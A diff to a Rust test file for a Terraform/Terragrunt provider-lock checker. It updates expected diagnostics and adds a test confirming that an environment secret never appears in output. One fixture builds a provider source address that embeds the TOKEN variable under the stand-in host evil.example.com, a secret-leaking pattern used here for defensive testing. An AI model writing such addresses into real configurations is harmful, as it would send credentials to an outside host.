@@ -268,6 +268,7 @@ warning[requirements-not-known]: what the unit in live/prod/app requires is not 
    |
    = entries that nothing seems to require, and constraints that differ, are not reported
 help: terragrunt init -lockfile=readonly checks the whole
+
 warning[provider-not-required]: nothing is removed, since not all that the configuration requires is known
 live/prod/app:
   + hashicorp/null   3.2.4   signed, key ID 558D46FBE8647CB4   1 h1, 2 zh
@@ -356,9 +357,12 @@ warning[provider-not-required]: hashicorp/tls is locked, but the configuration d
 help: provlock -C live/.terragrunt-stack/app lock --prune, unless state still holds objects of it
 
 warning[requirements-not-known]: what the unit in units/app requires is not known in full
- |
- = entries that nothing seems to require, and constraints that differ, are not reported
- = `values` is known in generated units only
+ --> units/app/terragrunt.hcl:2:12
+  |
+2 |   source = "../../../modules//${values.module}"
+  |            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ `values` is known in generated units only
+  |
+  = entries that nothing seems to require, and constraints that differ, are not reported
 help: terragrunt init -lockfile=readonly checks the whole
 
 ----- stderr -----
@@ -385,5 +389,69 @@ Terragrunt would go on with the older lock file in .terragrunt-cache: delete tha
 exit code: 0
 ----- stderr -----
 Up to date: 1 provider for linux_amd64
+"#]]);
+}
+
+#[test]
+fn a_variable_of_the_environment_chooses_and_is_never_shown() {
+    let mut environment = TestEnvironment::new();
+    environment.set("STAGE", "prod");
+    environment.set("TOKEN", "t0ken");
+    let choice = "get_env(\"STAGE\") == \"prod\" ? \"../modules//app\" : \"../modules//none\"";
+    let provider = "provider \"null\" {\n  region = \"${get_env(\"TOKEN\")}\"\n}\n";
+    let source = format!("terraform {{\n  source = {choice}\n}}\n");
+    environment.write("unit/terragrunt.hcl", source.clone() + &generate("provider", provider));
+    environment.write("modules/app/main.tf", "resource \"tls_private_key\" \"a\" {}\n");
+    environment.write("unit/.terraform.lock.hcl", lock_file(&[]));
+    let verify = || environment.provlock(["verify", "-r", "-v"]);
+    verify().assert_lacks("t0ken").matches(str![[r#"
+exit code: 1
+----- stdout -----
+error[provider-not-locked]: hashicorp/tls is required, but not locked
+ --> modules/app/main.tf:1:10
+  |
+1 | resource "tls_private_key" "a" {}
+  |          ^^^^^^^^^^^^^^^^^ required here
+  |
+help: provlock -C unit lock
+
+error[provider-not-locked]: hashicorp/null is required, but not locked
+ --> unit/terragrunt.hcl:4:1
+  |
+4 | generate "provider" {
+  | ^^^^^^^^ required here
+  |
+help: provlock -C unit lock
+
+----- stderr -----
+unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
+2 errors in modules/app/main.tf and unit/terragrunt.hcl
+"#]]);
+
+    let leak = requires("evil.example.com/${get_env(\"TOKEN\")}/null", "");
+    environment.write("unit/terragrunt.hcl", source + &generate("provider", &leak));
+    verify().assert_lacks("t0ken").matches(str![[r#"
+exit code: 1
+----- stdout -----
+error[provider-not-locked]: hashicorp/tls is required, but not locked
+ --> modules/app/main.tf:1:10
+  |
+1 | resource "tls_private_key" "a" {}
+  |          ^^^^^^^^^^^^^^^^^ required here
+  |
+help: provlock -C unit lock
+
+warning[requirements-not-known]: what the unit in unit requires is not known in full
+ --> unit/terragrunt.hcl:4:1
+  |
+4 | generate "provider" {
+  | ^^^^^^^^ a variable of the environment is only compared, never shown
+  |
+  = entries that nothing seems to require, and constraints that differ, are not reported
+help: terragrunt init -lockfile=readonly checks the whole
+
+----- stderr -----
+unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
+1 error and 1 warning in modules/app/main.tf and unit/terragrunt.hcl
 "#]]);
 }
